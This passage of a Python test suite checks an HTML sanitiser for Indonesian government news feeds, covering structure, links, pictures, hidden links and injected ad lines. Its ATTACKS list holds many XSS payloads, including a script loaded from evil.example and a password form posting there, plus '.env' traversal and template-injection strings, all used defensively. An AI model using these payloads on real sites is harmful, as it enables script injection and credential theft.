"""From any HTML to ours: what is allowed stays, all else goes, and the words stay the words.

What comes out is read again as a browser would read it (html5lib) and must hold nothing but the allow-list.
"""

from __future__ import annotations

import re
import time
import warnings
from datetime import UTC, datetime
from typing import Any
from urllib.parse import urljoin, urlsplit

import html5lib
import pytest
from bs4 import BeautifulSoup, Tag
from hypothesis import given, settings
from hypothesis import strategies as st

from plugins.newsroom.clean import ATTRIBUTES, LINK_REL, MARKUP, PICTURES, TAGS, TITLE, Body, article, fragment
from plugins.newsroom.clean_rules import Notes
from plugins.newsroom.clean_shape import flatten
from plugins.newsroom.clean_tree import DEPTH, ELEMENTS, drop, elements, is_silent, parsed, printed
from plugins.newsroom.clean_tree import words as words_of
from plugins.newsroom.model import Article, Entry, Mode, PictureRef

PAGE = "https://dinkes.contohkab.go.id/berita/1/"
NOW = datetime(2026, 11, 21, 6, 30, tzinfo=UTC)


def body(markup: str, base: str = PAGE, bad: str = "IKLAN-JUDI") -> Body:
    return Body(markup, base, lambda lines: [bad in line for line in lines], Notes())


def safe(markup: str, base: str = PAGE) -> str:
    return body(markup, base).safe


def cleaned(mode: Mode = "full", **fields: Any) -> Article:
    return article(
        Entry(**{"guid": "1", "url": PAGE, "title": "Judul", **fields}), agency="dinkes", feed=f"{PAGE}feed",
        key="guid:1",
        canonical=PAGE, mode=mode, parse_date=lambda text: NOW if text else None,
        injected=lambda lines: ["IKLAN-JUDI" in line for line in lines],
    )  # fmt: skip


def check_closed(markup: str) -> None:
    """Only elements and attributes of the allow-list, only http(s) links, in the tree that a browser would build."""
    tree = html5lib.parseFragment(markup, treebuilder="etree", namespaceHTMLElements=False)
    for element in tree.iter():
        if element is tree:
            continue
        assert isinstance(element.tag, str), "a comment"
        assert element.tag in TAGS, element.tag
        allowed = ATTRIBUTES.get(element.tag, set()) | ({"rel"} if element.tag == "a" else set())
        assert set(element.attrib) <= allowed, element.attrib
        if element.tag == "a":
            assert urlsplit(element.get("href")).scheme in ("http", "https")
            assert urlsplit(element.get("href")).hostname
            assert element.get("rel") == LINK_REL


def letters(text: str) -> str:
    return "".join(text.split())


def words(markup: str) -> str:
    """The letters of some HTML, as a browser would show them."""
    tree = html5lib.parseFragment(markup, treebuilder="etree", namespaceHTMLElements=False)
    return letters("".join(tree.itertext()))


# --- structure ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("markup", "wanted"),
    [
        ("", ""),
        ("Satu", "<p>Satu</p>"),
        ("<p>Satu</p><p>Dua</p>", "<p>Satu</p><p>Dua</p>"),
        ("Satu<br><br>Dua", "<p>Satu</p><p>Dua</p>"),
        ("Satu<br/>\n<br />Dua<br>Tiga<br><br><br>", "<p>Satu</p><p>Dua<br>Tiga</p>"),
        ("<div>Satu</div><div>Dua</div>", "<p>Satu</p><p>Dua</p>"),
        ("<div><div><div><span>Satu</span></div></div></div>", "<p>Satu</p>"),
        ("<div>Satu<p>Dua</p>Tiga</div>", "<p>Satu</p><p>Dua</p><p>Tiga</p>"),
        ("<p><span style='font-size:14px'><font color=red>Satu</font></span></p>", "<p>Satu</p>"),
        ("<p></p><p>&nbsp;</p><p> <br> </p><p>Satu</p>", "<p>Satu</p>"),
        ("<p><strong></strong><em> </em>Satu</p>", "<p>Satu</p>"),
        ("<h1>Satu</h1><h2>Dua</h2><h3>Tiga</h3><h4>A</h4><h5>B</h5><h6>C</h6>",
         "<h2>Satu</h2><h2>Dua</h2><h3>Tiga</h3><h4>A</h4><h4>B</h4><h4>C</h4>"),
        ("<ul><li>Satu</li><li>Dua</li></ul>", "<ul><li>Satu</li><li>Dua</li></ul>"),
        ("<ol><li><p>Satu</p></li></ol>", "<ol><li><p>Satu</p></li></ol>"),
        ("<blockquote><p>Kata</p></blockquote>", "<blockquote><p>Kata</p></blockquote>"),
        ("<p>a < b &amp; c</p>", "<p>a &lt; b &amp; c</p>"),
        ("<p>H<sub>2</sub>O</p>", "<p>H<sub>2</sub>O</p>"),
        ("<pre>a\n  b</pre>", "<pre>a\n  b</pre>"),
        ("<section><article><header>Satu</header></article></section>", "<p>Satu</p>"),
        ("<center>Satu</center>", "<p>Satu</p>"),
        ("<b><div>Satu</div></b>", "<p><b>Satu</b></p>"),
        ("<b><section>Satu</section><section>Dua</section></b>", "<p><b>Satu</b></p><p><b>Dua</b></p>"),
        ("Satu<b><br>Dua</b>", "<p>Satu<b><br>Dua</b></p>"),
        ("<h2><div>Satu</div><div>Dua</div></h2>", "<h2>Satu<br>Dua</h2>"),
        ("<h2><div>Judul</div></h2>", "<h2>Judul</h2>"),
        ("<p>Satu<section>Dua</section></p>", "<p>Satu</p><p>Dua</p>"),
        ("<p><br>Satu<br></p>", "<p>Satu</p>"),
        ("<td>Satu<td>Dua", "<p>Satu</p><p>Dua</p>"),
        ("<em><ul><li>Satu</li></ul></em>", "<ul><li>Satu</li></ul>"),
        ("<hr><p>Satu</p>", "<hr><p>Satu</p>"),
        ("<!doctype html><html><head><title>x</title></head><body><p>Satu</p></body></html>", "<p>Satu</p>"),
        ("<p>Satu", "<p>Satu</p>"),
        ("</p></div>Satu</b>", "<p>Satu</p>"),
        ("<![CDATA[x]]><p>Satu</p><?php echo 1 ?><!-- y -->", "<p>Satu</p>"),
    ],
)  # fmt: skip
def test_structure_is_made_plain(markup: str, wanted: str) -> None:
    """Wrappers go, loose text and double line breaks become paragraphs, headings move below the page's own."""
    assert re.sub(r">\s+<", "><", safe(markup)) == wanted


def test_a_table_is_kept() -> None:
    """With heads, spans and caption; what it is coloured with goes."""
    table = (
        '<table border="1" style="width:100%" class="t"><caption>Harga</caption><thead><tr><th colspan="2" bgcolor="red">Beras</th>'
        '</tr></thead><tbody><tr><td rowspan="1" width="9">Rp14.000</td><td></td></tr></tbody></table>'
    )
    assert safe(table) == (
        '<table><caption>Harga</caption><thead><tr><th colspan="2">Beras</th></tr></thead>'
        '<tbody><tr><td rowspan="1">Rp14.000</td><td></td></tr></tbody></table>'
    )


@pytest.mark.parametrize(
    ("markup", "text"),
    [
        ("<p>Satu <b>dua</b></p><p>Tiga</p>", "Satu dua\nTiga"),
        ("<p>Satu<br>Dua</p>", "Satu\nDua"),
        ("<ul><li>a</li><li>b</li></ul>", "a\nb"),
        ("<p>satu\ndua\n   tiga</p>", "satu dua tiga"),
        ("<h2>Judul</h2>isi", "Judul\nisi"),
        ("<table><tr><td>a</td><td>b</td></tr></table>", "a\nb"),
        ("<p>a&nbsp;&nbsp;b</p>", "a b"),
        ("<div>a<div>b</div>c</div>", "a\nb\nc"),
    ],
)
def test_the_text_is_a_line_a_block(markup: str, text: str) -> None:
    """The words of the HTML in their order and no others."""
    assert body(markup).text == text


# --- links, pictures, frames -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("href", "wanted"),
    [
        ("https://a.go.id/x", "https://a.go.id/x"), ("/unduh/a.pdf", "https://dinkes.contohkab.go.id/unduh/a.pdf"),
        ("b.html", "https://dinkes.contohkab.go.id/berita/1/b.html"), ("//b.go.id/", "https://b.go.id/"),
        ("https://a.go.id/?a=1&amp;b=2", "https://a.go.id/?a=1&b=2"), ("mailto:humas@a.go.id", ""), ("tel:112", ""),
         ("", ""),
        ("{attach}../.env", "https://dinkes.contohkab.go.id/berita/1/{attach}../.env"),
    ],
)  # fmt: skip
def test_links_are_absolute_web_links(href: str, wanted: str) -> None:
    """What is none loses its link and keeps its words."""
    found = body(f'<p>Baca <a href="{href}" target="_blank" onclick="x()">di sini</a>.</p>')
    assert found.text == "Baca di sini."
    assert found.links == ([wanted] if wanted else [])
    assert safe(found.safe) == found.safe
    check_closed(found.safe)
    assert ("<a " in found.safe) is bool(wanted)


def test_pictures_go_to_their_own_place() -> None:
    """Lazy ones by their true address, with words and credit; icons, smileys and data go; the caption goes along."""
    found = body(
        '<p><img src="/a.jpg" alt="Kader &amp; ibu"></p><img src="data:image/gif;base64,R0" data-src="b.jpg"><img src="spinner.gif" '
        'data-lazy-src="https://c.go.id/c.png"><figure><img src="d.jpg"><figcaption>Foto: <b>Humas</b></figcaption></figure>'
        '<img src="i.png" width="16" height="16"><img src="https://s.w.org/images/core/emoji/1.png"><img><img src="javascript:1">'
        '<img src="data:image/png;base64,AA"><a href="/besar.jpg"><img src="e.jpg"></a><p>Isi</p>'
    )
    assert found.pictures == [
        PictureRef("https://dinkes.contohkab.go.id/a.jpg", "Kader & ibu"),
        PictureRef("https://dinkes.contohkab.go.id/berita/1/b.jpg"), PictureRef("https://c.go.id/c.png"),
        PictureRef("https://dinkes.contohkab.go.id/berita/1/d.jpg", "", "Foto: Humas"),
        PictureRef("https://dinkes.contohkab.go.id/berita/1/e.jpg"),
    ]  # fmt: skip
    assert found.safe == "<p>Isi</p>"


def test_a_picture_within_the_caption_of_another_goes_with_it() -> None:
    """The caption is the first one's credit, and nothing of it is looked for a second time."""
    found = body('<figure><img src="a.jpg"><figcaption><img src="logo.png">Foto: Humas</figcaption></figure><p>Isi</p>')
    assert found.pictures == [PictureRef("https://dinkes.contohkab.go.id/berita/1/a.jpg", "", "Foto: Humas")]
    assert found.text == "Isi"


@pytest.mark.parametrize(
    ("tag", "address"),
    [
        ('<img srcset="/a-300.jpg 300w, /a-1200.jpg 1200w,/a-600.jpg 600w">', "/a-1200.jpg"),
        ('<img src="data:image/gif;base64,R0" data-srcset="a.jpg 1x, b.jpg 2x">', "b.jpg"),
        ('<img srcset="a.jpg">', "a.jpg"),
        ('<img src="a.jpg" srcset="b.jpg 2000w">', "a.jpg"),
        ('<img srcset="data:image/gif;base64,R0 1x">', None),
        ('<img srcset=" , ,">', None),
    ],
)
def test_a_picture_may_have_nothing_but_a_set(tag: str, address: str | None) -> None:
    """The largest of it is taken where there is no other address."""
    assert [picture.url for picture in body(tag).pictures] == ([urljoin(PAGE, address)] if address else [])


def test_a_picture_in_two_sizes_is_one() -> None:
    """The feed's own and the text's are the same photo: the larger, with the words of the text."""
    found = cleaned(
        content='<img src="/2026/foto-300x200.jpg" alt="Kader"><img src="/2026/foto.jpg?resize=600,400"><img src="/2026/lain.jpg">',
        pictures=(PictureRef("/2026/foto-1024x576.jpg"),),
    )
    assert found.pictures == (
        PictureRef("https://dinkes.contohkab.go.id/2026/foto-1024x576.jpg", "Kader"),
        PictureRef("https://dinkes.contohkab.go.id/2026/lain.jpg"),
    )


def test_no_more_pictures_than_a_story_shows() -> None:
    """A gallery of a hundred costs no hundred."""
    assert len(cleaned(content="".join(f"<img src={n}.jpg>" for n in range(100))).pictures) == PICTURES


@pytest.mark.parametrize(
    ("markup", "wanted"),
    [
        ('<iframe src="https://www.youtube.com/embed/x"></iframe>', "Lihat video di YouTube"),
        ('<video><source src="/v.mp4"></video>', "Lihat di dinkes.contohkab.go.id"),
        ('<audio src="//a.go.id/a.mp3">teks</audio>', "Lihat di a.go.id"),
        ('<iframe src="javascript:alert(1)"></iframe>', ""),
        ('<iframe srcdoc="<script>x</script>"></iframe>', ""),
        ("<iframe></iframe>", ""),
        ('<object data="a.swf"></object><embed src="a.swf">', ""),
    ],
)
def test_a_frame_becomes_a_link(markup: str, wanted: str) -> None:
    """Films, maps and documents stay reachable, and nothing of a third party is loaded."""
    found = body(f"<p>Isi</p>{markup}")
    assert found.text == f"Isi\n{wanted}".strip()
    check_closed(found.safe)


# --- attacks --------------------------------------------------------------------------------------------------------

ATTACKS = [
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<script>alert(1)",
    "<<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<p onclick=alert(1)>a</p>", "<b onmouseover='alert(1)'>a</b>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text>a",
    "<math><mi xlink:href=javascript:alert(1)>a</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href=javascript:alert(1)>a</a>", "<a href=' javascript:alert(1)'>a</a>",
    "<a href='java&#x09;script:alert(1)'>a</a>",
    "<a href='java&NewLine;script:alert(1)'>a</a>", "<a href=&#106;avascript:alert(1)>a</a>",
    "<a href='&#1;javascript:alert(1)'>a</a>",
    "<a href=JAVASCRIPT:alert(1)>a</a>", "<a href='jav\u200bascript:alert(1)'>a</a>",
    "<a href='javascript&colon;alert(1)'>a</a>",
    "<a href=vbscript:x>a</a>", "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
    "<a href='https://a.go.id/\"onclick=alert(1)//'>a</a>",
    "<a href='https://a.go.id/' style='position:fixed;top:0'>a</a>", "<a href='\\\\evil.example\\x'>a</a>",
    "<a href='///evil.example'>a</a>",
    "<form action=//evil.example><input name=sandi><button>Masuk</button></form>",
    "<input autofocus onfocus=alert(1)>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/a.css>",
    "<style>*{x:expression(alert(1))}</style>",
    "<p style='background:url(javascript:alert(1))'>a</p>", "<div style='x:expression(alert(1))'>a</div>",
    "<table background=javascript:alert(1)><td>a",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<applet code=x>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>", "<frameset onload=alert(1)>", "<body onload=alert(1)>a",
    "<html onload=alert(1)>a",
    "<details open ontoggle=alert(1)>a</details>", "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>a</marquee>",
    "<textarea><img src=x onerror=alert(1)></textarea>", "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>", "<noembed><img src=x onerror=alert(1)></noembed>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<template><script>alert(1)</script></template>", "<select><option><script>alert(1)</script></select>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml:namespace prefix=t><t:x onclick=a>",
    "<isindex prompt=x onclick=alert(1)>", "<x onclick=alert(1)>a</x>",
    "<p id=x name=y data-z=1 class=w lang=id dir=rtl>a</p>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<p>\x00<scr\x00ipt>alert(1)</scr\x00ipt>", "\ufeff<\u200bscript>alert(1)</script>",
    "<a href=https://a.go.id/ ping=//e.example rel=opener target=_blank>a</a>",
    "<area href=javascript:alert(1)>", "<button formaction=javascript:alert(1)>a",
    "<td colspan=99999999999 rowspan='javascript:1' onclick=x>a</td>",
    "<dialog open onclose=alert(1)>a</dialog>", "<portal src=//e.example></portal>",
    "<img srcset='//e.example/a 1x' src=''>", "<picture><source srcset=//e.example>",
]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize(
    "around", ["{}", "<p>Isi {} isi</p>", "<table><tr><td>{}</td></tr></table>", "<b><i>{}</i></b>"]
)
def test_nothing_but_the_allow_list_comes_out(attack: str, around: str) -> None:
    """In whatever surroundings, as a browser would read it; and what is clean stays as it is."""
    once = safe(around.replace("{}", attack))
    check_closed(once)
    check_closed(fragment(attack))
    assert safe(once) == once


@pytest.mark.parametrize("field", ["title", "summary", "content", "author", "guid", "url", "published"])
@pytest.mark.parametrize(
    "attack", [*ATTACKS[:16], "\ud800\udfff", "\x00\x1b\u202e", "{{ config }}", "{attach}../.env", "a" * 5000]
)
def test_every_field_is_hostile(field: str, attack: str) -> None:
    """None of them raises; what is plain text is one line of it, what is HTML is the allow-list's."""
    fields: dict[str, Any] = {field: attack, "tags": (attack,), "origin": attack, "base": attack}
    found = cleaned(**fields)
    check_closed(found.html)
    assert len(found.title) <= TITLE
    for line in (found.title, found.summary, found.author, *found.tags):
        assert not re.search("[\x00-\x1f\x7f-\x9f\u202e\ud800-\udfff]", line)
    assert found.url == "" or urlsplit(found.url).scheme in ("http", "https")
    assert found.origin == "" or urlsplit(found.origin).hostname
    repr(found).encode()


@pytest.mark.parametrize(
    "first", ["<script>hitung()</script>", "<!-- x --> <style>p{}</style>", "<link rel=a><meta b=c>"]
)
@pytest.mark.parametrize("name", ["section", "article", "main", "figure"])
def test_a_text_behind_a_script_is_no_part_of_the_head(first: str, name: str) -> None:
    """Whatever element it stands in, and with more text behind it."""
    found = body(f"{first}<{name}><div>Jembatan gantung diresmikan.</div></{name}><p>Warga datang.</p>")
    assert found.text == "Jembatan gantung diresmikan.\nWarga datang."


PIECES = st.sampled_from(
    "<p> </p> <b> </b> <i> <div> </div> <span> </span> <br> <a\thref=x> <a\thref=//b.c/d> </a> <table> <tr> <td> </td> </table> <ul> <li> </ul> "
    "<svg> </svg> <math> <style> </style> <script> </script> <!-- --> <img\tsrc=a.jpg> <h1> </h1> <pre> </pre> <blockquote> <title> <select> "
    "<noscript> <iframe> </iframe> <form> <dl> <dt> <dd> kata kata. &lt; &amp; &#0; &nbsp; < > \" ' <![CDATA[ ]]> <?x ?> <template> <font> <hr> "
    "<div\thidden> <p\tstyle=display:none> <figure> <figcaption> </figure> <center> <strike> <caption> <code> <sub> <th> <body> </html>".split(" ")
)  # fmt: skip
MARKUPS = st.lists(PIECES, max_size=30).map(lambda pieces: "".join(pieces).replace("\t", " ")) | st.text()


@settings(max_examples=300, deadline=None)
@given(MARKUPS)
def test_any_markup_is_closed_and_comes_to_rest(markup: str) -> None:
    """It never raises, the vocabulary is closed, the plain text is that of the HTML, and cleaning what was cleaned
    changes nothing in its words."""
    found = body(markup)
    check_closed(found.safe)
    assert words(found.safe) == letters(found.text)
    again = body(found.safe)
    assert again.text == found.text
    check_closed(again.safe)


@settings(max_examples=200, deadline=None)
@given(MARKUPS, MARKUPS)
def test_a_body_is_parsed_as_if_it_were_the_first(before: str, markup: str) -> None:
    """Whatever came before it through the same parser, however broken; and it is the tree that another reader of the
    same parser sees: the same elements with the same attributes in the same order, and all of its words."""
    parsed(before)
    whole, root, *_ = parsed(markup)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        soup = BeautifulSoup(markup, "lxml", multi_valued_attributes=None)
    seen = [tag for tag in soup.descendants if isinstance(tag, Tag)]
    if markup.strip():
        assert [(e.name, e.attributes) for e in elements(whole)] == [(tag.name, tag.attrs) for tag in seen]
    assert squeezed("".join(words_of(whole))) == squeezed(soup.get_text())
    assert is_silent(root) is not bool("".join(words_of(root)).strip())


def squeezed(text: str) -> str:
    return " ".join(text.split())


@settings(max_examples=200, deadline=None)
@given(MARKUPS)
def test_what_is_printed_is_the_tree(markup: str) -> None:
    """Read again, what was printed is the same tree, less the attributes that were not asked for."""
    _, root, *_ = parsed(markup)
    flatten(root, TAGS)
    first = printed(root, ATTRIBUTES)
    outline = [
        (e.name, {k: v for k, v in e.attributes.items() if k in ATTRIBUTES.get(e.name, ())}) for e in elements(root)
    ]
    again = [(e.name, e.attributes) for e in elements(parsed(first)[1])]
    assert again == outline


def test_what_is_dropped_is_gone_for_everyone() -> None:
    """Whoever still holds an element that went, or anything within it, can see that it is no more."""
    _, root, *_ = parsed("<div><p>Kabar <b>tebal</b></p></div><p>Sisa</p>")
    held = list(elements(root))
    drop(held[0])
    assert [element.name for element in held] == ["", "", "", "p"]
    assert printed(root, {}) == "<p>Sisa</p>"
    assert words_of(root) == ["Sisa"]


# --- what is hidden ----------------------------------------------------------------------------------------------------

HIDING = [
    "display:none", "display : none", "DISPLAY:NONE", "display:none!important", "color:red;display:none",
    "display:/**/none", "visibility:hidden",
    "position:absolute;left:-9999px", "position:absolute;top:-9999px", "position:fixed;right:-5000px",
    "text-indent:-9999px", "text-indent:-999em",
    "margin-left:-9999px", "font-size:0", "font-size:0px", "font-size: 0;", "font-size:1px", "font-size:0.1px",
    "opacity:0", "opacity:0.0", "opacity: .01",
    "width:1px;height:1px;overflow:hidden", "overflow:hidden;height:0", "overflow:hidden; width:0px",
    "max-height:0;overflow:hidden", "clip:rect(0,0,0,0)",
    "clip:rect(1px,1px,1px,1px)", "clip-path:inset(100%)", "transform:translateX(-9999px)", "transform:scale(0)",
    "color:transparent", "overflow:auto;width:1px;",
]  # fmt: skip
SEEN = [
    "display:block", "font-size:14px", "font-size:0.9em", "font-size:.85rem", "font-size:1em", "font-size:1rem",
    "font-size:10px", "font-size:100%", "opacity:0.9",
    "opacity:1", "left:-5px", "margin-left:-15px", "text-indent:-18pt", "line-height:1", "width:100%;overflow:hidden",
    "height:10px;overflow:hidden",
    "border-width:0;overflow:hidden", "color:#fff;background:#060", "visibility:visible", "max-width:100%;height:auto",
    "margin:0;padding:0", "overflow-x:auto;width:100%",
    "letter-spacing:-1px", "background-color:transparent", "font-size:12pt;line-height:1.5", "top:0", "",
]  # fmt: skip


@pytest.mark.parametrize("style", HIDING)
@pytest.mark.parametrize("tag", ["div", "span", "a", "p"])
def test_what_style_hides_goes(style: str, tag: str) -> None:
    """With its words; its links are kept as evidence and flagged. A sanitiser that only took the style would show it."""
    link = '<a href="https://slot.example/">situs</a>'
    hidden = (
        f'<a style="{style}" href="https://slot.example/">situs</a>'
        if tag == "a"
        else f'<{tag} style="{style}">{link}</{tag}>'
    )
    found = body(f"<p>Rapat dimulai.</p>{hidden}<p>Rapat selesai.</p>")
    assert found.text == "Rapat dimulai.\nRapat selesai."
    assert found.hidden == ["https://slot.example/"]
    assert found.links == []
    assert found.flags == ["tautan-tersembunyi"]


@pytest.mark.parametrize("style", SEEN)
def test_what_style_shows_stays(style: str) -> None:
    """Small print, hanging indents and coloured boxes are no hiding."""
    found = body(f'<p>Isi <span style="{style}">yang <a href="https://a.go.id/">terbaca</a></span></p>')
    assert found.text == "Isi yang terbaca"
    assert (found.hidden, found.flags) == ([], [])


@pytest.mark.parametrize(
    "markup",
    ["<div hidden>{}</div>", "<div hidden=until-found>{}</div>",
     "<style>.q{{display:none}}</style><div class='a q'>{}</div>",
     "<style>#z , .y {{ text-indent:-9999px }}</style><p id=z>{}</p>", "<marquee width=1 height=1>{}</marquee>",
     "<div style='display:none'><ul><li>{}</li></ul></div>"],
)  # fmt: skip
def test_other_ways_of_hiding(markup: str) -> None:
    """By attribute, by a style sheet within the text, as a running line of no size."""
    found = body("<p>Isi</p>" + markup.format('<a href="https://slot.example/">situs</a>'))
    assert (found.text, found.hidden) == ("Isi", ["https://slot.example/"])


def test_two_hidden_links_are_two() -> None:
    """They are counted one by one, for one is forgiven and two are held."""
    found = body(
        '<p>Isi</p><p style="display:none"><a href="https://a.example/">a</a> <a href="https://b.example/">b</a></p>'
    )
    assert found.hidden == ["https://a.example/", "https://b.example/"]


def test_hidden_share_buttons_are_no_evidence() -> None:
    """Plug-ins hide their own buttons; a good source is not suspected for it."""
    buttons = "".join(f'<a href="https://{n}.example/">x</a>' for n in "abc")
    found = body(f'<p>Isi</p><div class="sharedaddy sd-block" style="display:none">{buttons}</div>')
    assert (found.text, found.hidden, found.flags) == ("Isi", [], [])


# --- furniture ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "line",
    ["Bagikan: Facebook Twitter WhatsApp", "BAGIKAN", "Share this:", "Bagikan ini: Facebook | X | Telegram",
     "Komentar Anda", "comments", "Tinggalkan Balasan",
     "LEAVE A REPLY", "Baca juga: Posyandu Melati Dibuka", "BACA JUGA", "Lihat juga: Galeri", "ADVERTISEMENT",
     "SCROLL TO CONTINUE WITH CONTENT", "Dilihat 151 kali",
     "Dibaca: 1.234 kali", "25 Views", "0 shares", "Cek Berita dan Artikel yang lain di Google News", "Selengkapnya »",
     "Read more", "Loading...",
     "The post Rapat Koordinasi appeared first on Dinas Kesehatan.", "The post Rapat first appeared on Dinkes."],
)  # fmt: skip
@pytest.mark.parametrize("tag", ["p", "div", "h4"])
def test_furniture_lines_go(line: str, tag: str) -> None:
    """What the page says of itself is not the article."""
    assert body(f"<p>Rapat dimulai.</p><{tag}>{line}</{tag}>").text == "Rapat dimulai."


@pytest.mark.parametrize(
    "line",
    ["Warga membagikan bantuan.", "Komentar Anda kami tunggu di balai desa.", "Pameran itu dilihat 151 siswa.", "151",
     "Iklan layanan masyarakat diputar.",
     "Buku itu dibaca 40 kali oleh juri sebelum dinilai.", "Selengkapnya dapat diunduh di laman resmi."],
)  # fmt: skip
def test_sentences_stay(line: str) -> None:
    """Even where they begin as furniture does."""
    assert body(f"<p>Rapat dimulai.</p><p>{line}</p>").text == f"Rapat dimulai.\n{line}"


def test_what_plug_ins_hang_on_goes_by_its_class() -> None:
    """Short blocks only: a theme may call the whole article `social`."""
    row = '<div class="{}"><a href="https://a.example/">Facebook</a></div>'
    for name in (
        "sharedaddy",
        "addtoany_content",
        "heateor_sss_sharing",
        "jp-relatedposts",
        "post-views",
        "share-buttons",
        "social-links",
        "x yarpp y",
    ):
        assert body(f"<p>Isi</p>{row.format(name)}").text == "Isi"
    for name in ("content", "share", "social", "shareholder-buttons", "postviewsolid"):
        assert body(f"<p>Isi</p>{row.format(name)}").text == "Isi\nFacebook"
    long = "Rapat koordinasi berlangsung. " * 20
    assert body(f'<div class="social-share">{long}</div>').text == long.strip()


# --- what was slipped in ---------------------------------------------------------------------------------------------------

HONEST = "<p>Rapat dimulai.</p><p>Warga hadir.</p><p>Rapat selesai.</p>"


def test_one_injected_line_goes() -> None:
    """With its links, out of an otherwise honest text; and that is flagged."""
    found = body(HONEST + '<p>IKLAN-JUDI <a href="https://slot.example/">klik</a></p>')
    assert found.text == "Rapat dimulai.\nWarga hadir.\nRapat selesai."
    assert (found.links, found.flags) == ([], ["baris-sisipan"])
    assert "slot" not in found.safe


def test_a_line_is_judged_with_where_it_leads() -> None:
    """Its words may be harmless."""
    found = body(HONEST + '<p>Klik <a href="https://IKLAN-JUDI.example/">di sini</a></p>')
    assert found.flags == ["baris-sisipan"]


def test_more_than_one_is_left_for_people() -> None:
    """Two are no accident of an honest text: nothing is cut out, all of it is seen by an editor."""
    found = body(HONEST + "<p>IKLAN-JUDI</p><p>IKLAN-JUDI lagi</p>")
    assert found.flags == ["banyak-sisipan"]
    assert "IKLAN-JUDI lagi" in found.text


def test_a_text_of_two_lines_is_not_halved() -> None:
    """Where half of it is an advertisement there is no honest text to save."""
    assert body("<p>Isi.</p><p>IKLAN-JUDI</p>").text == "Isi.\nIKLAN-JUDI"


# --- bounds ------------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("markup", "flag"),
    [
        ("<p>kata</p>" * (MARKUP // 8), "terlalu-panjang"), ("<div>" * (DEPTH + 1) + "kata", "terlalu-dalam"),
        ("<b></i>" * 3000 + "kata", "terlalu-dalam"), ("<span>" * 80_000 + "kata", "terlalu-dalam"),
         ("<b>a</b>" * 40_000, "terlalu-dalam"),
    ],
)  # fmt: skip
def test_what_is_too_much_is_flagged(markup: str, flag: str) -> None:
    """Its words are kept, its structure is not worth the time that others would take over it."""
    found = body(markup)
    assert flag in found.flags
    assert "a" in found.text
    check_closed(found.safe[:5000].rpartition("<")[0])


def test_an_honest_long_article_is_not_too_much() -> None:
    """Unclosed paragraphs, a table of a thousand rows, forty levels of wrappers."""
    for markup in (
        "<p>Isi panjang." * 1500,
        "<table>" + "<tr><td>a<td>b" * 1000 + "</table>",
        "<div>" * 40 + "Isi" + "</div>" * 40,
    ):
        assert body(markup).flags == []


@pytest.mark.parametrize(
    "markup",
    ["<" * 300_000, "<a " * 100_000, "<a" * 200_000, "<" + "a" * 400_000, "<a href='" + "x" * 400_000,
     "<!--" * 100_000, "&" * 400_000, "<p " + "x=1 " * 100_000,
     "<br>a" * 9_000, "<img src=a.jpg>" * 9_000, "<p style='" + "display:" * 50_000, "<b>" * 100 + "<a>" * 9_000,
     "<style>" + "a{" * 100_000, "<table>" * 100_000,
     "<b></i>" * 75_000, "<b>" * 85_000 + "</i>" * 60_000, "<figure>" * 100 + "<img src=/a.jpg>" * 30_000, "<h1>x" * 100_000,
     "<p>\n" * 9_000, "<i><p>a" * 4_000, "a<!-- -->" * 50_000, "<p>a</p>\n" * 9_000,
     "".join(f"<p style='{n}{'overflow:hidden;' * 120}'>a" for n in range(250))],
    ids=lambda markup: markup[:9],
)  # fmt: skip
def test_shapes_that_take_others_long_are_over_soon(markup: str) -> None:
    """Within seconds, a quarter of what a worker is given."""
    began = time.process_time()
    body(markup)
    assert time.process_time() - began < 10


# --- the article ----------------------------------------------------------------------------------------------------------------

LONG = (
    "<p>SUMBERJATI – Rapat dibuka Kepala Dinas Kesehatan. "
    + "Kegiatan itu diikuti kader dari dua belas desa. " * 9
    + "</p>"
)


def test_an_article_says_what_its_entry_said() -> None:
    """Every field where it belongs, the date as its reader read it."""
    found = cleaned(
        title="Air &amp; Kita", content=LONG, summary="pendek", published="hari ini", author="<b>Humas</b>",
        tags=("Gizi", "", "Gizi", "A &amp; B"),
        origin="/sumber", fields={"Place": "<i>Aula</i>"},
    )  # fmt: skip
    assert (found.title, found.author, found.tags) == ("Air & Kita", "Humas", ("Gizi", "A & B"))
    assert (found.source_date, found.canonical, found.key, found.agency) == (NOW, PAGE, "guid:1", "dinkes")
    assert found.summary.startswith("Rapat dibuka Kepala Dinas Kesehatan.")
    assert found.html.startswith("<p>SUMBERJATI – Rapat")
    assert found.fields == {"Place": "Aula"}
    assert found.fingerprint


def test_the_longer_of_text_and_summary_is_the_text() -> None:
    """Some put everything into the description, some an excerpt there."""
    assert cleaned(content="<p>pendek</p>", summary=LONG).text == cleaned(content=LONG, summary="<p>pendek</p>").text


@pytest.mark.parametrize(("mode", "has_text"), [("full", True), ("excerpt", True), ("link", False)])
